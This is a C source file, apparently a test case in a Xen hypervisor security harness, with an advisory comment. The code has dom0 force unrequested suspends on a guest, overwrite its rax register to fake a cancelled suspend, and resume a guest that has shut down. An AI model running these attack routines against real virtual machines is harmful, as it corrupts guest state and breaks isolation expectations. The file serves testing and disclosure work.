/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest goes on where it does not expect to
 *
 * Claim:  dom0 changes a running guest's register, or makes a guest that has
 *         shut down go on.
 * Method: a suspend that the guest has not asked for, by
 *         SCHEDOP_remote_shutdown or XEN_DMOP_remote_shutdown; then rax is set
 *         to 1, as libxc does to say that a suspend was cancelled, and
 *         XEN_DOMCTL_resumedomain.  That alone, of a guest that has shut down.
 * Stock:  the guest finds the 1 in rax at any point; its shutdown returns.
 */
#include <string.h>

#include "../attack.h"

#include <xen/sched.h>

#define TRIES 60

static long shut_down(struct victim *v, bool dm)
{
    struct sched_remote_shutdown remote = {
        .domain_id = v->id,
        .reason = SHUTDOWN_suspend,
    };
    struct xen_dm_op op = {
        .op = XEN_DMOP_remote_shutdown,
        .u.remote_shutdown.reason = SHUTDOWN_suspend,
    };

    return dm ? dm_op(v->id, &op)
              : hypercall_2(__HYPERVISOR_sched_op, SCHEDOP_remote_shutdown,
                            &remote, sizeof(remote));
}

static void cancel(struct victim *v)
{
    struct xen_domctl resume = {0};
    vcpu_guest_context_any_t c;

    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        memset(&c, 0, sizeof(c));
    c.x64.user_regs.rax = 1;
    xc_vcpu_setcontext(xch, v->id, 0, &c);
    domctl(v->id, XEN_DOMCTL_resumedomain, &resume);
}

/* The guest looks at rax for a seventh of its time. */
static enum verdict resume_rax(struct victim *v)
{
    unsigned int i, suspended = 0;
    enum verdict result;

    for ( i = 0; i < TRIES; i++ )
    {
        suspended += !shut_down(v, i % 2);
        cancel(v);
        if ( log_count(v->log, "victim REGISTERS") )
            break;
        msleep(37);
    }
    result = victim_complains(v, "REGISTERS");
    return result == FAILURE
               ? verdict(FAILURE, "suspended %u times of %u", suspended, i)
               : result;
}
ATTACK(resume_rax, .needs = SHARED);

static enum verdict resume_ended(struct victim *v)
{
    if ( !victim_suspended(v, 20) )
        return verdict(ERROR, "the guest does not shut down");
    cancel(v);
    return victim_says(v, "RESUMED", 3)
               ? verdict(SUCCESS, "it has shut down, and goes on")
               : verdict(FAILURE, "it does not go on");
}
ATTACK(resume_ended, .needs = FRESH, .extra = "off");
